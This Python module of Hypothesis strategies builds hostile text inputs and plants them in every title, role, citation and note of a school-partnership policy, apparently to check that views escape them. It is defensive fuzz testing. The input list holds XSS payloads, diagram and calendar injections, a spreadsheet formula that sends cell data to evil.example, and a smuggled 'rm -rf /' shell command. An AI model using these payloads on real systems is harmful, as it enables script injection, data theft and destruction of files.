"""Names that want to be more than names, and a partnership in which everything that can be named has one."""

from __future__ import annotations

from typing import Any

from hypothesis import strategies as st

import partnership_rules as pr
from views import samples

NAMES = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</style><style>*{display:none}",
    "</title></text></svg><script>alert(1)</script>",
    "<!--", "-->", "]]>", "<![CDATA[", "<?xml version='1.0'?>", "&lt;b&gt; &amp; &#60; &quot;",
    "%%{init: {'theme':'dark','securityLevel':'loose'}}%%",
    'x" as y\n    click s0 href "javascript:alert(1)"',
    "a --> b : c; end\nnote left of a",
    '=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\uff1d1+1", "\t=1+1", " =1+1",
    '"; rm -rf /; "', "\\N \\G \\l \\", 'label="x"]; evil [shape=box',
    "BEGIN:VALARM\nACTION:AUDIO\nEND:VALARM", "X;VALUE=DATE:20200101,\\n\\,", "\nATTACH:https://evil.example",
    "https://evil.example/<script>", "javascript:alert(1)", "https://user@evil.example/", "see https://example.org/a?b=1&c=2.",
    "{{7*7}}", "${x}", "[red]x[/red]", "[link](javascript:alert(1))", "` ``` `",
    "zero\u200bwidth\u200d\u2060\u00ad", "e\u0301\u0327" * 20, "\u2028line\u2029", "\U0001f468\u200d\U0001f469",
    "العربية עברית", "\ufff9x\ufffb", "\ufffe",
    "A" * 9_990, "<" * 5_000, "word " * 1_990, "\n" * 500,
)  # fmt: skip

PIECES = st.sampled_from([*(name for name in NAMES if len(name) < 200), "<", ">", '"', "'", "&", "\n", ";", "#", "=", "\\"])
TEXTS = st.text(
    st.characters(
        blacklist_categories=("Cc", "Cs"), blacklist_characters="\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff"
    ),
    max_size=40,
)
names = st.one_of(st.sampled_from(NAMES), st.lists(st.one_of(PIECES, TEXTS), min_size=1, max_size=6).map("".join))
"""Texts that the models take, and that no view may obey."""

raw = st.one_of(
    names, st.text(max_size=60), st.text(st.sampled_from("\x00\x07\x1b\r\n\t\x85\u202e\u2066\ufeff\ud800=+-@\"'<>&,;"), max_size=20)
)
"""Texts of any kind, also those the models refuse."""


def policy(name: str) -> pr.Policy:
    """Give Michigan's policy with every title, role, citation and note replaced by a name."""
    data: dict[str, Any] = pr.load_policy("michigan-2017").to_dict()
    for part in (data["states"], data["clocks"]):
        for one in part.values():
            one["title"] = name
    data["roles"] = dict.fromkeys(data["roles"], name)
    for key in ("requirements",):
        for one in data[key]:
            one["title"] = name
    for one in (*data["ladder"]["grounds"], *data["ladder"]["levels"]):
        one["title"] = name
    for one in data["citations"].values():
        one |= {"title": name, "url": name}
    return pr.Policy(**{**data, "title": name, "note": name})


def partnership(name: str) -> pr.Partnership:
    """Give a partnership all of whose texts are one name: it has lapsed, is judged, extended, overridden and refused."""
    agreement: dict[str, Any] = {**samples.AGREEMENT, "title": name, "note": name, "source": name}
    agreement["benchmarks"] = [{**one, "title": name, "cites": name} for one in agreement["benchmarks"]]
    menu = {"choose": 1, "of": [{"kind": "closure", "title": name}, {"kind": "other", "title": name}]}
    agreement["clauses"] = [{**one, "title": name, "cites": name, "then": menu} for one in agreement["clauses"]]
    agreement["parties"] = [{"role": "isd", "name": name}]
    agreement["supports"] = [{"id": "coach", "title": name}]
    records = [{**one, "source": name, "note": name} for one in samples.RECORDS]
    records += [
        {"kind": "partner_joined", "on": "2018-03-01", "party": name},
        {"kind": "extension_granted", "on": "2018-04-01", "clock": "intermediate_review", "until": "2019-09-01",
         "by": "state_superintendent", "authority": name, "reason": name},
        {"kind": "overridden", "on": "2018-05-01", "what": "benchmark:attendance@north", "outcome": "met", "by": "state_superintendent",
         "authority": name, "reason": name},
        {"kind": "next_level_signaled", "on": "2018-06-01", "by": "local_board", "note": name},
        {"kind": "other", "name": "noise", "on": "2018-06-02", "data": {"what": name}},
    ]  # fmt: skip
    evidence = [{**one, "source": name, "note": name} for one in samples.EVIDENCE]
    held = policy(name)
    return pr.Partnership(
        id="hostile", policy=held.id, policies=(held,), district={"id": "1", "name": name, "isd": name, "charter": False},
        schools=[{"id": "north", "name": name, "note": name}, {"id": "south", "name": name}],
        records=records, evidence=evidence, agreements=[agreement], source=name, note=name,
    )  # fmt: skip
